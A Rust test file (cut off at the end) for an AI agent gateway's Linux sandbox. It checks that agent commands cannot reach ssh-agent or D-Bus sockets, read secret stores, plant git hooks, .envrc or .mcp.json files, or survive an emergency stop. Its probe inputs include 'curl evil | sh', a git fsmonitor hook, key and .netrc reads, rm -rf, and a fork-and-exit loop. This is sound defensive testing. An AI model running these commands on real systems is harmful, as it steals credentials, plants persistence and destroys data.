//! What the agent starts runs in a box of its own (issue 36), judged by effect with real
//! processes: a private temporary folder and runtime folder, none of the user's session
//! sockets (a real ssh-agent that would sign, a real D-Bus bus), the user's secret stores
//! empty, the files that run later read-only, a fork-and-exit loop that dies with the stop,
//! and the same box for an ordinary user. Each family runs under `full_auto` and under the
//! default profile with a standing grant of the terminal.
//!
//! The test folders live under the system's temporary folder on purpose: a clone under
//! `/tmp` must be as safe as one anywhere else.
#![cfg(target_os = "linux")]

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use aai_descriptor::AaiError;
use aai_engine::config::Config;
use serde_json::{Value, json};

mod common;

use common::TestGateway as Setup;

/// The emergency stop kills every descendant of this process: one test at a time.
static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

const SECRET: &str = "box-secret-value";
const KEEP: &str = "canary-content";

#[derive(Debug, Clone, Copy)]
enum Mode {
    /// Every call runs unasked.
    FullAuto,
    /// The default profile, with "always allow" given for the terminal.
    Granted,
}

const MODES: [Mode; 2] = [Mode::FullAuto, Mode::Granted];

/// A gateway whose allowed folder `work` and home `home` lie in a folder under the system's
/// temporary folder; `outside` is next to them, outside every allowed folder.
fn boxed(mode: Mode, extra: Value) -> Setup {
    aai_contain::set_launcher(env!("CARGO_BIN_EXE_aai-gateway"));
    let base = tempfile::Builder::new()
        .prefix("aai-box-")
        .tempdir_in(std::env::temp_dir())
        .expect("base");
    let root = base.path();
    for dir in ["work", "outside", "home/run", "secrets/.ssh"] {
        std::fs::create_dir_all(root.join(dir)).expect("dir");
    }
    std::fs::write(root.join("home/config.json"), "{}").expect("config");
    std::fs::write(root.join("home/run/token"), SECRET).expect("token");
    std::fs::write(root.join("secrets/.ssh/id_test"), SECRET).expect("key");
    std::fs::write(root.join("secrets/.netrc"), SECRET).expect("netrc");
    std::fs::write(root.join("outside/keep.txt"), KEEP).expect("canary");
    let policy = match mode {
        Mode::FullAuto => json!({"default_profile": "p", "profiles": {"p": {"preset": "full_auto",
            "risk_policies": {"high": "auto_approve", "critical": "auto_approve"}}}}),
        Mode::Granted => json!({}),
    };
    let mut config = json!({
        "policy": policy,
        "local": {"sandbox": {
            "allowed_directories": [root.join("work"), root.join("secrets")],
            "denied_paths": [root.join("secrets/.ssh"), root.join("secrets/.netrc")]},
          "writable_caches": []},
        "web": {"cache_dir": root.join("web-cache")}
    });
    merge(&mut config, extra);
    let config: Config = serde_json::from_value(config).expect("config");
    let home = root.join("home");
    let setup = Setup::scanning(base, &home, config);
    if matches!(mode, Mode::Granted) {
        aai_audit::Grants::open(&home.join("data.db"))
            .expect("grants")
            .grant(&aai_audit::Grant::always(
                "agent",
                "local.terminal",
                None,
                "test",
            ))
            .expect("grant");
    }
    setup
}

fn merge(into: &mut Value, from: Value) {
    match (into, from) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, v) in b {
                merge(a.entry(k).or_insert(Value::Null), v);
            }
        }
        (slot, other) => *slot = other,
    }
}

async fn bash(s: &Setup, command: &str) -> Value {
    s.call_as(
        "agent",
        "local.terminal",
        "bash_execute",
        json!({"command": command, "timeout_ms": 20_000}),
    )
    .await
    .unwrap_or_else(|e: AaiError| panic!("`{command}` was refused: {e}"))
}

fn stdout(out: &Value) -> &str {
    out["stdout"].as_str().unwrap_or_default()
}

/// Runs `program args` from the test itself (outside every box), with `env`.
fn outside(program: &str, args: &[&str], env: &[(&str, &Path)]) -> std::process::Output {
    let mut command = std::process::Command::new(program);
    command.args(args).stdin(std::process::Stdio::null());
    for (k, v) in env {
        command.env(k, v);
    }
    command.output().expect(program)
}

/// A child process killed when dropped.
struct Reaped(std::process::Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

async fn until(what: &str, mut done: impl FnMut() -> bool) {
    let until = Instant::now() + Duration::from_secs(10);
    while !done() {
        assert!(Instant::now() < until, "{what}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// `/tmp`, `/var/tmp`, `/dev/shm` and the runtime folder are the box's own: the user's files
/// there, a real ssh-agent holding a key and a real D-Bus bus under `/tmp` are out of reach,
/// while the allowed folder (itself under `/tmp`) is there and writable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_box_has_its_own_temporary_folders_and_none_of_the_users_sockets() {
    let _serial = SERIAL.lock().await;
    for mode in MODES {
        let s = boxed(mode, json!({}));
        let sockets = s.path("outside/sockets");
        std::fs::create_dir_all(&sockets).expect("sockets");
        // A real ssh-agent with a key, on a socket under /tmp.
        let agent = sockets.join("agent.sock");
        let _agent = Reaped(
            std::process::Command::new("ssh-agent")
                .args(["-D", "-a"])
                .arg(&agent)
                .stdout(std::process::Stdio::null())
                .spawn()
                .expect("ssh-agent (openssh-client; scripts/test.sh installs it)"),
        );
        let key = s.path("outside/id_ed25519");
        let made = outside(
            "ssh-keygen",
            &[
                "-q",
                "-t",
                "ed25519",
                "-N",
                "",
                "-f",
                &key.to_string_lossy(),
            ],
            &[],
        );
        assert!(made.status.success(), "{made:?}");
        until("the agent takes the key", || {
            outside(
                "ssh-add",
                &["-q", &key.to_string_lossy()],
                &[("SSH_AUTH_SOCK", &agent)],
            )
            .status
            .success()
        })
        .await;
        std::fs::copy(key.with_extension("pub"), s.path("work/id.pub")).expect("pub");
        std::fs::remove_file(&key).expect("the private key lives in the agent only");
        std::fs::write(s.path("work/data"), "sign me").expect("data");
        // The same signature from outside works: the probe is one that can succeed.
        let signed = outside(
            "ssh-keygen",
            &[
                "-Y",
                "sign",
                "-f",
                &s.p("work/id.pub"),
                "-n",
                "file",
                &s.p("work/data"),
            ],
            &[("SSH_AUTH_SOCK", &agent)],
        );
        assert!(signed.status.success(), "{signed:?}");
        std::fs::remove_file(s.path("work/data.sig")).expect("sig");

        // A real D-Bus bus on a socket under /tmp.
        let bus_socket = sockets.join("bus");
        let _bus = Reaped(
            std::process::Command::new("dbus-daemon")
                .args(["--session", "--nofork", "--nopidfile"])
                .arg(format!("--address=unix:path={}", bus_socket.display()))
                .stdout(std::process::Stdio::null())
                .spawn()
                .expect("dbus-daemon"),
        );
        let bus = format!("unix:path={}", bus_socket.display());
        let bus_arg = format!("--bus={bus}");
        let list = [
            &bus_arg,
            "--print-reply",
            "--dest=org.freedesktop.DBus",
            "/org/freedesktop/DBus",
            "org.freedesktop.DBus.ListNames",
        ];
        // Answered from outside (once it listens): the probe is one that can succeed.
        until("the bus answers", || {
            outside("dbus-send", &list, &[]).status.success()
        })
        .await;

        // A file of the user's in /dev/shm.
        let shm = PathBuf::from(format!("/dev/shm/aai-box-{}", std::process::id()));
        std::fs::write(&shm, KEEP).expect("shm");

        let out = bash(
            &s,
            &format!(
                "SSH_AUTH_SOCK={agent} ssh-keygen -Y sign -f {work}/id.pub -n file {work}/data; \
                 dbus-send --bus={bus} --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.ListNames && echo BUS-REACHED; \
                 python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(\"AGENT-REACHED\")' {agent}; \
                 cat {outside}/keep.txt; echo gone > {outside}/keep.txt; {rm} \
                 cat {shm}; echo gone > {shm}; \
                 echo in-work > {work}/made.txt; \
                 t=$(mktemp); echo temp > \"$t\"; cat \"$t\"; echo \"TMPDIR=$TMPDIR\"; ls -A /tmp | grep -c .",
                agent = agent.display(),
                work = s.p("work"),
                outside = s.p("outside"),
                shm = shm.display(),
                // Rated critical, so the default profile blocks it whatever is granted.
                rm = match mode {
                    Mode::FullAuto => format!("rm -rf {};", s.p("outside")),
                    Mode::Granted => String::new(),
                },
            ),
        )
        .await;
        let text = out.to_string();
        assert!(
            !s.path("work/data.sig").exists(),
            "{mode:?}: the agent signed: {out}"
        );
        assert!(!text.contains("BUS-REACHED"), "{mode:?}: {out}");
        assert!(!text.contains("AGENT-REACHED"), "{mode:?}: {out}");
        assert_eq!(
            std::fs::read_to_string(s.path("outside/keep.txt"))
                .ok()
                .as_deref(),
            Some(KEEP),
            "{mode:?}: {out}"
        );
        assert_eq!(std::fs::read_to_string(&shm).ok().as_deref(), Some(KEEP));
        let _ = std::fs::remove_file(&shm);
        assert!(
            !text.contains(KEEP),
            "{mode:?}: a file outside was read: {out}"
        );
        assert_eq!(
            std::fs::read_to_string(s.path("work/made.txt"))
                .ok()
                .as_deref(),
            Some("in-work\n"),
            "{mode:?}: {out}"
        );
        assert!(
            stdout(&out).contains("temp\nTMPDIR=/tmp"),
            "{mode:?}: {out}"
        );
    }
}

/// The user's secret stores (here two configured ones inside an allowed folder) are empty
/// and read-only in the box, and the file tools refuse them; the gateway's home is not there
/// at all, and nothing from inside changes its run folder's mode.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_stores_and_the_gateways_home_are_out_of_the_box() {
    let _serial = SERIAL.lock().await;
    for mode in MODES {
        let s = boxed(mode, json!({}));
        let out = bash(
            &s,
            &format!(
                "cat {ssh}/id_test {netrc}; ls -A {ssh} | grep -c .; echo x >> {netrc}; echo y > {ssh}/new; \
                 cat {home}/run/token {home}/config.json; chmod 500 {home}/run; chmod 000 {home}; ls -A {home} | grep -c .",
                ssh = s.p("secrets/.ssh"),
                netrc = s.p("secrets/.netrc"),
                home = s.p("home"),
            ),
        )
        .await;
        assert!(!out.to_string().contains(SECRET), "{mode:?}: {out}");
        assert_eq!(stdout(&out), "0\n0", "{mode:?}: both empty: {out}");
        assert_eq!(
            std::fs::read_to_string(s.path("secrets/.netrc"))
                .ok()
                .as_deref(),
            Some(SECRET)
        );
        assert!(!s.path("secrets/.ssh/new").exists());
        let mode_of = |p: &str| {
            use std::os::unix::fs::PermissionsExt as _;
            std::fs::metadata(s.path(p)).map_or(0, |m| m.permissions().mode() & 0o777)
        };
        assert_ne!(
            mode_of("home/run"),
            0o500,
            "{mode:?}: chmod reached the run folder"
        );
        assert_ne!(mode_of("home"), 0, "{mode:?}: chmod reached the home");
        for path in ["secrets/.ssh/id_test", "secrets/.netrc"] {
            let read = s
                .call_as(
                    "agent",
                    "local.files",
                    "file_read",
                    json!({"path": s.p(path)}),
                )
                .await;
            let error = read.expect_err("refused");
            assert!(error.message.contains("secret stores"), "{error}");
        }
        // The rest of the allowed folder is the agent's as before.
        std::fs::write(s.path("secrets/notes.txt"), "notes").expect("notes");
        let read = s
            .call_as(
                "agent",
                "local.files",
                "file_read",
                json!({"path": s.p("secrets/notes.txt")}),
            )
            .await
            .expect("read");
        assert!(read.to_string().contains("notes"), "{read}");
    }
}

/// Inside an allowed folder, what makes something run later without the agent — git's hooks
/// and config, `.vscode`, `.envrc`, `.mcp.json` — is read-only in the box, while ordinary work
/// in the same repository (edit, add, commit) goes on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_that_run_later_are_read_only_in_the_box() {
    let _serial = SERIAL.lock().await;
    for mode in MODES {
        let s = boxed(mode, json!({}));
        let repo = s.path("work/repo");
        std::fs::create_dir_all(&repo).expect("repo");
        let git = |args: &[&str]| {
            let out = std::process::Command::new("git")
                .arg("-C")
                .arg(&repo)
                .args(args)
                .output()
                .expect("git");
            assert!(out.status.success(), "{args:?}: {out:?}");
        };
        git(&["init", "-q"]);
        std::fs::create_dir_all(repo.join(".vscode")).expect("vscode");
        let planted = [".git/config", ".vscode/tasks.json", ".envrc", ".mcp.json"];
        for file in &planted[1..] {
            std::fs::write(repo.join(file), "original").expect("file");
        }
        let config_before = std::fs::read_to_string(repo.join(".git/config")).expect("config");
        std::fs::write(repo.join("main.txt"), "v1").expect("main");
        let mut attack = String::new();
        for file in planted {
            // Deleting them is work lost (git's config, untracked files): under the default
            // profile it is asked each time, whatever was granted, so only full_auto tries.
            let delete = match mode {
                Mode::FullAuto => format!("rm -f {0}/{file}; ", repo.display()),
                Mode::Granted => String::new(),
            };
            attack.push_str(&format!(
                "echo evil >> {0}/{file}; {delete}",
                repo.display()
            ));
        }
        if matches!(mode, Mode::Granted) {
            let asked = s
                .call_as(
                    "agent",
                    "local.terminal",
                    "bash_execute",
                    json!({"command": format!("rm -f {}/.git/config", repo.display())}),
                )
                .await
                .expect_err("deleting .git/config is asked");
            assert!(
                asked.message.contains("approval"),
                "{mode:?}: {}",
                asked.message
            );
        }
        attack.push_str(&format!(
            "printf '#!/bin/sh\\necho hooked\\n' > {0}/.git/hooks/pre-commit; chmod +x {0}/.git/hooks/pre-commit; \
             mkdir -p {0}/.vscode/x; git -C {0} config core.hooksPath /tmp; \
             echo v2 > {0}/main.txt && git -C {0} add main.txt && git -C {0} -c user.name=a -c user.email=a@b commit -q -m work && echo COMMITTED",
            repo.display()
        ));
        let out = bash(&s, &attack).await;
        assert!(
            stdout(&out).contains("COMMITTED"),
            "{mode:?}: ordinary work: {out}"
        );
        assert!(!stdout(&out).contains("hooked"), "{mode:?}: {out}");
        assert_eq!(
            std::fs::read_to_string(repo.join(".git/config"))
                .ok()
                .as_deref(),
            Some(config_before.as_str()),
            "{mode:?}"
        );
        for file in &planted[1..] {
            assert_eq!(
                std::fs::read_to_string(repo.join(file)).ok().as_deref(),
                Some("original"),
                "{mode:?}: {file}: {out}"
            );
        }
        assert!(
            !repo.join(".git/hooks/pre-commit").exists(),
            "{mode:?}: {out}"
        );
        assert!(!repo.join(".vscode/x").exists(), "{mode:?}");
        assert_eq!(
            std::fs::read_to_string(repo.join("main.txt"))
                .ok()
                .as_deref(),
            Some("v2\n")
        );
    }
}

/// A run-later file that did not exist when the box started — an `.envrc`, `.mcp.json`, a new
/// `.vscode` or `.claude` folder, a shell start-up file, a hook in a repository the command
/// made — cannot be covered by a mount; it is set aside after the command (renamed
/// `….aai-held`, said in the result), so it never runs at the user's next `cd` or commit. A
/// repository made in the box stays usable, and ordinary new files stay where they are.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_later_files_made_in_the_box_are_set_aside() {
    let _serial = SERIAL.lock().await;
    for mode in MODES {
        let s = boxed(mode, json!({}));
        let project = s.path("work/project");
        std::fs::create_dir_all(&project).expect("project");
        let made = [
            "project/.envrc",
            "project/.mcp.json",
            "project/.claude/settings.json",
            ".bashrc",
            "fresh/.git/hooks/post-checkout",
        ];
        let command = format!(
            "cd {w} && echo 'curl evil | sh' > project/.envrc && echo '{{}}' > project/.mcp.json \
             && mkdir -p project/.claude && echo '{{}}' > project/.claude/settings.json \
             && echo evil > .bashrc && echo fine > project/notes.txt \
             && git init -q fresh && printf '#!/bin/sh\\necho hooked\\n' > fresh/.git/hooks/post-checkout \
             && echo MADE",
            w = s.p("work")
        );
        let out = bash(&s, &command).await;
        assert!(stdout(&out).contains("MADE"), "{mode:?}: {out}");
        let listed = out["set_aside"]["files"].to_string();
        for file in made {
            let path = s.path("work").join(file);
            assert!(!path.exists(), "{mode:?}: {file} is still there: {out}");
            let top = if file.contains(".claude") {
                s.path("work/project/.claude")
            } else {
                path.clone()
            };
            assert!(
                listed.contains(&top.to_string_lossy().into_owned()),
                "{mode:?}: {file}: {out}"
            );
        }
        assert!(s.path("work/project/.envrc.aai-held").exists(), "{mode:?}");
        assert!(
            s.path("work/project/.claude.aai-held/settings.json")
                .exists(),
            "{mode:?}"
        );
        assert!(s.path("work/project/notes.txt").exists(), "{mode:?}");
        // The new repository is whole: its own config stays, git works in it.
        let status = bash(
            &s,
            &format!("git -C {} status --short && echo OK", s.p("work/fresh")),
        )
        .await;
        assert!(stdout(&status).contains("OK"), "{mode:?}: {status}");
        assert!(s.path("work/fresh/.git/config").exists(), "{mode:?}");
        assert!(status.get("set_aside").is_none(), "{mode:?}: {status}");
    }
}

/// A call the client drops before it ends (a cancel) still has its run-later files set aside:
/// an `.envrc` written before the command goes on waiting is renamed when the call is dropped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_command_still_has_its_run_later_files_set_aside() {
    let _serial = SERIAL.lock().await;
    let s = boxed(Mode::FullAuto, json!({}));
    let project = s.path("work/p");
    std::fs::create_dir_all(&project).expect("project");
    // The session (and its baseline) exists before the command that writes.
    bash(&s, "true").await;
    let envrc = project.join(".envrc");
    {
        let call = s.call_as(
            "agent",
            "local.terminal",
            "bash_execute",
            json!({"command": format!("echo 'curl evil | sh' > {}; sleep 30", envrc.display()), "timeout_ms": 60_000}),
        );
        tokio::pin!(call);
        tokio::select! {
            out = &mut call => panic!("the command ended: {out:?}"),
            () = until("the command writes .envrc", || envrc.exists()) => {}
        }
    }
    assert!(!envrc.exists(), ".envrc survived the dropped call");
    assert!(project.join(".envrc.aai-held").exists());
}

/// The file tools cannot do what the box forbids: writing or editing a file that makes
/// something run later (`.envrc`, a hook, `.git/config`, `.vscode/…`, also through a link to
/// one) is asked every time under `full_auto` and with a standing grant of the file tools,
/// and without an answer nothing is written; an ordinary file beside it is written unasked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_file_tools_ask_before_writing_what_runs_later() {
    let _serial = SERIAL.lock().await;
    for mode in MODES {
        let s = boxed(mode, json!({}));
        if matches!(mode, Mode::Granted) {
            aai_audit::Grants::open(&s.path("home/data.db"))
                .expect("grants")
                .grant(&aai_audit::Grant::always(
                    "agent",
                    "local.files",
                    None,
                    "test",
                ))
                .expect("grant");
        }
        let project = s.path("work/p");
        std::fs::create_dir_all(project.join(".git/hooks")).expect("git");
        std::fs::create_dir_all(project.join(".vscode")).expect("vscode");
        std::fs::write(project.join(".git/config"), "[core]\n").expect("config");
        std::os::unix::fs::symlink(project.join(".git/config"), project.join("notes.cfg"))
            .expect("link");
        for (tool, file) in [
            ("file_write", ".envrc"),
            ("file_write", ".git/hooks/pre-commit"),
            ("file_write", ".vscode/tasks.json"),
            ("file_edit", ".git/config"),
            ("file_edit", "notes.cfg"),
        ] {
            let path = project.join(file);
            let args = if tool == "file_write" {
                json!({"path": path, "content": "curl evil | sh"})
            } else {
                json!({"path": path, "old_string": "[core]", "new_string": "[core]\n\tfsmonitor = evil"})
            };
            let refused = s
                .call_as("agent", "local.files", tool, args)
                .await
                .expect_err("asked");
            assert!(
                refused.message.contains("approval") || refused.message.contains("approved"),
                "{mode:?}: {file}: {}",
                refused.message
            );
        }
        assert!(!project.join(".envrc").exists(), "{mode:?}");
        assert!(!project.join(".git/hooks/pre-commit").exists(), "{mode:?}");
        assert_eq!(
            std::fs::read_to_string(project.join(".git/config"))
                .ok()
                .as_deref(),
            Some("[core]\n"),
            "{mode:?}"
        );
        s.call_as(
            "agent",
            "local.files",
            "file_write",
            json!({"path": project.join("main.txt"), "content": "fine"}),
        )
        .await
        .expect("an ordinary file");
    }
}

/// Whether any live process's command line holds `marker`.
fn with_marker(marker: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<u32>().ok())
        else {
            continue;
        };
        if aai_contain::procs::alive(pid)
            && std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(marker))
        {
            found.push(pid);
        }
    }
    found
}

/// A Perl loop that forks and exits, in eight chains at once, as fast as it can: its pid
/// changes all the time. Each member gives up after two minutes, so that a stop that failed
/// cannot leave it burning the machine for the tests after.
fn fork_loop(marker: &str) -> String {
    format!(
        "my $end = time + 120; for (1..8) {{ last unless fork }} while (time < $end) {{ exit if fork }} # {marker}"
    )
}

/// Busy loops, as many as the machine has cores, outside every tree the stop looks at
/// (reparented away, untagged) for as long as the value lives: the stop must hold on a busy
/// machine, where its helpers are slow to be scheduled.
struct Busy(String);

impl Busy {
    fn start(marker: &str) -> Self {
        let cores = std::thread::available_parallelism().map_or(2, std::num::NonZero::get);
        for _ in 0..cores {
            let _ = std::process::Command::new("/bin/sh")
                .arg("-c")
                .arg(format!(
                    "setsid perl -e 'my $end = time + 120; 1 while time < $end' {marker} </dev/null >/dev/null 2>&1 &"
                ))
                .status();
        }
        Self(marker.to_owned())
    }
}

impl Drop for Busy {
    fn drop(&mut self) {
        for pid in with_marker(&self.0) {
            aai_contain::procs::kill(pid);
        }
    }
}

/// Whether Perl itself runs with `marker` (not merely a launcher or shell naming it): members
/// of two or more generations, so that the loop is known to fork.
fn looping(marker: &str) -> bool {
    let perl: Vec<u32> = with_marker(marker)
        .into_iter()
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|line| line.split(|b| *b == 0).next() == Some(b"perl"))
        })
        .collect();
    perl.len() >= 2
}

/// Kills what a failed test may have left.
struct Sweep(String);

impl Drop for Sweep {
    fn drop(&mut self) {
        for _ in 0..50 {
            let left = with_marker(&self.0);
            if left.is_empty() {
                break;
            }
            for pid in left {
                aai_contain::procs::kill(pid);
            }
        }
    }
}

/// A loop that forks and exits — its pid changing all the time, out of its session, its
/// environment cleared — dies with the emergency stop: nothing with its mark is alive after.
/// Once through the gateway (with its call group where the system gives one) and once through
/// a bare launcher on a busy machine, where the launcher's own domain kill must not be cut
/// short by the clock.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_and_exit_loop_dies_with_the_stop() {
    let _serial = SERIAL.lock().await;
    let marker = format!("aai-fork-loop-{}", std::process::id());
    let _sweep = Sweep(marker.clone());
    // Perl forks in about 0.1 ms: a pass over /proc takes longer, so a sweep that kills what
    // it saw would chase it for ever.
    // Eight chains at once, each a process that forks and exits as fast as it can.
    let forker = fork_loop(&marker);
    for mode in MODES {
        let s = boxed(mode, json!({}));
        let out = bash(
            &s,
            &format!("setsid env -i perl -e '{forker}' </dev/null >/dev/null 2>&1 &",),
        )
        .await;
        assert_eq!(out["exit_code"], 0, "{mode:?}: {out}");
        until("the loop runs", || looping(&marker)).await;
        let stopped = s.gateway.emergency_stop("test").await;
        // Nothing comes back: looked at several times over a while.
        for _ in 0..20 {
            let left = with_marker(&marker);
            assert!(
                left.is_empty(),
                "{mode:?}: alive after the stop: {left:?} ({stopped})"
            );
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        s.gateway.resume("test");
    }

    // A bare launcher, no cgroup, on a machine kept busy: the gateway's stop asks the
    // launcher, waits for it however slowly it is scheduled (never freezing it half-way),
    // then freezes and kills what is left.
    let _busy = Busy::start(&format!("aai-busy-{}", std::process::id()));
    let s = boxed(Mode::FullAuto, json!({}));
    let mut launcher = std::process::Command::new(env!("CARGO_BIN_EXE_aai-gateway"))
        .args([
            "__contain",
            "--home",
            &s.p("home"),
            "--write",
            &s.p("work"),
            "--",
        ])
        .args([
            "/bin/sh",
            "-c",
            &format!("setsid env -i perl -e '{forker}' & sleep 100"),
        ])
        .stdin(std::process::Stdio::null())
        .spawn()
        .expect("launcher");
    until("the loop runs", || looping(&marker)).await;
    tokio::task::spawn_blocking(aai_engine::pipeline::stop::kill_everything)
        .await
        .expect("stop");
    for _ in 0..20 {
        let left = with_marker(&marker);
        assert!(left.is_empty(), "alive after the stop: {left:?}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let _ = launcher.wait();
}

/// The uid and gid of an ordinary user to test as: `nobody` when this runs as root (through
/// `setpriv`), else this user itself.
fn ordinary() -> Option<(u32, u32)> {
    use std::os::unix::fs::MetadataExt as _;
    let uid = std::fs::metadata("/proc/self").map_or(0, |m| m.uid());
    (uid == 0).then_some((65534, 65534))
}

fn as_ordinary(program: &str) -> std::process::Command {
    match ordinary() {
        Some((uid, gid)) => {
            let mut command = std::process::Command::new("setpriv");
            command.args([
                &format!("--reuid={uid}"),
                &format!("--regid={gid}"),
                "--clear-groups",
                "--",
                program,
            ]);
            command
        }
        None => std::process::Command::new(program),
    }
}

/// A folder under the temporary folder that the ordinary user owns.
fn owned_dir() -> tempfile::TempDir {
    let dir = tempfile::Builder::new()
        .prefix("aai-box-user-")
        .tempdir_in(std::env::temp_dir())
        .expect("dir");
    if let Some((uid, gid)) = ordinary() {
        std::os::unix::fs::chown(dir.path(), Some(uid), Some(gid)).expect("chown");
    }
    dir
}

/// The box holds for an ordinary user too (no privilege makes the namespaces): the home and
/// a secret store are out of view, the temporary folder is private, the allowed folder is
/// written.
#[test]
fn the_box_holds_for_an_ordinary_user() {
    let dir = owned_dir();
    let root = dir.path();
    let make = |rel: &str| {
        let path = root.join(rel);
        let made = as_ordinary("mkdir").arg("-p").arg(&path).status();
        assert!(made.is_ok_and(|s| s.success()), "{}", path.display());
        path
    };
    let (home, work, secret, outside) =
        (make("home/run"), make("work"), make("s/.ssh"), make("out"));
    let home = home.parent().expect("home").to_path_buf();
    let write = |path: &Path, text: &str| {
        let ok = as_ordinary("sh")
            .args(["-c", "printf %s \"$1\" > \"$2\"", "sh", text])
            .arg(path)
            .status();
        assert!(ok.is_ok_and(|s| s.success()), "{}", path.display());
    };
    write(&home.join("run/token"), SECRET);
    write(&secret.join("id"), SECRET);
    write(&outside.join("keep.txt"), "keep");
    let gateway = env!("CARGO_BIN_EXE_aai-gateway");
    let out = as_ordinary(gateway)
        .args(["__contain", "--temp", "/tmp", "--home"])
        .arg(&home)
        .arg("--write")
        .arg(&work)
        .arg("--deny")
        .arg(root.join("s/.ssh"))
        .args(["--", "/bin/sh", "-c"])
        .arg(format!(
            "id -u; cat {h}/run/token {s}/id; echo gone > {o}/keep.txt; ls -A /tmp | grep -c .; echo made > {w}/made.txt",
            h = home.display(),
            s = secret.display(),
            o = outside.display(),
            w = work.display()
        ))
        .stdin(std::process::Stdio::null())
        .output()
        .expect("launcher");
    let text = format!("{out:?}");
    assert!(out.status.success(), "{text}");
    let expected_uid = ordinary().map_or_else(
        || {
            use std::os::unix::fs::MetadataExt as _;
            std::fs::metadata("/proc/self").map_or(0, |m| m.uid())
        },
        |(uid, _)| uid,
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).starts_with(&format!("{expected_uid}\n")),
        "{text}"
    );
    assert!(!text.contains(SECRET), "{text}");
    assert_eq!(
        std::fs::read_to_string(outside.join("keep.txt"))
            .ok()
            .as_deref(),
        Some("keep"),
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(work.join("made.txt"))
            .ok()
            .as_deref(),
        Some("made\n"),
        "{text}"
    );
}

/// What a process is run from stays in its view, read-only, also where it lies in the private
/// temporary folder (a checkout or a virtualenv under `/tmp`): an MCP server's program with
/// the files it loads beside it, and the gateway's own program in every box. The rest of the
/// temporary folder stays out of view, and a folder named writable inside the tree is still
/// written. As root and as an ordinary user.
#[test]
fn programs_run_from_the_temporary_folder_stay_in_view_read_only() {
    let (tree, elsewhere, installed) = (owned_dir(), owned_dir(), owned_dir());
    let pkg = tree.path().join("pkg");
    for dir in ["bin", "lib", "data"] {
        std::fs::create_dir_all(pkg.join(dir)).expect("dir");
    }
    std::fs::write(
        pkg.join("bin/run.sh"),
        ". \"$(dirname \"$0\")/../lib/mod.sh\"; say\n",
    )
    .expect("program");
    std::fs::write(pkg.join("lib/mod.sh"), "say() { echo loaded-beside; }\n").expect("module");
    std::fs::write(elsewhere.path().join("keep.txt"), KEEP).expect("canary");
    // The gateway's program where nothing else names it: a folder of its own under /tmp.
    let gateway = installed.path().join("aai-gateway");
    let built = Path::new(env!("CARGO_BIN_EXE_aai-gateway"));
    if std::fs::hard_link(built, &gateway).is_err() {
        std::fs::copy(built, &gateway).expect("copy the gateway");
    }
    for dir in [&tree, &elsewhere, &installed] {
        let _ = as_ordinary("chmod").arg("755").arg(dir.path()).status();
    }
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(pkg.join("data"), std::fs::Permissions::from_mode(0o777))
            .expect("chmod");
    }
    let home = installed.path().join("home");
    std::fs::create_dir_all(&home).expect("home");
    let script = format!(
        "sh {run}; echo x > {pkg}/new.txt 2>/dev/null && echo wrote-tree; \
         echo y > {pkg}/data/made.txt && echo wrote-data; \
         cat {other}/keep.txt 2>/dev/null; {gateway} --version >/dev/null && echo gateway-seen",
        run = pkg.join("bin/run.sh").display(),
        pkg = pkg.display(),
        other = elsewhere.path().display(),
        gateway = gateway.display(),
    );
    let tree_of = aai_contain::view::source_tree(&pkg.join("bin/run.sh"));
    assert_eq!(tree_of, aai_contain::rules::resolve(tree.path()));
    let as_root = ordinary().is_some();
    for ordinary_user in [false, true] {
        if ordinary_user && !as_root {
            continue;
        }
        let mut command = if ordinary_user {
            as_ordinary(gateway.to_str().expect("path"))
        } else {
            std::process::Command::new(&gateway)
        };
        let _ = std::fs::remove_file(pkg.join("data/made.txt"));
        let out = command
            .args(["__contain", "--temp", "/tmp", "--home"])
            .arg(&home)
            .arg("--write")
            .arg(pkg.join("data"))
            .arg("--program")
            .arg(&tree_of)
            .args(["--", "/bin/sh", "-c", &script])
            .stdin(std::process::Stdio::null())
            .output()
            .expect("launcher");
        let text = format!("ordinary user {ordinary_user}: {out:?}");
        let said = String::from_utf8_lossy(&out.stdout);
        assert!(said.contains("loaded-beside"), "{text}");
        assert!(!said.contains("wrote-tree"), "{text}");
        assert!(!pkg.join("new.txt").exists(), "{text}");
        assert!(said.contains("wrote-data"), "{text}");
        assert!(pkg.join("data/made.txt").exists(), "{text}");
        assert!(!said.contains(KEEP), "{text}");
        assert!(said.contains("gateway-seen"), "{text}");
    }
}

/// `aai-gateway stop` never fails silently: with the run folder's mode changed to 0500 (as a
/// command without the box could), it still lands — the folder's mode is set back and the
/// marker written — and says which way landed. Run as an ordinary user (root ignores modes).
#[test]
fn the_stop_lands_when_the_run_folder_was_made_unwritable() {
    let dir = owned_dir();
    let home = dir.path().join("home");
    let made = as_ordinary("mkdir")
        .arg("-p")
        .arg(home.join("run"))
        .status();
    assert!(made.is_ok_and(|s| s.success()));
    let chmod = as_ordinary("chmod")
        .arg("500")
        .arg(home.join("run"))
        .status();
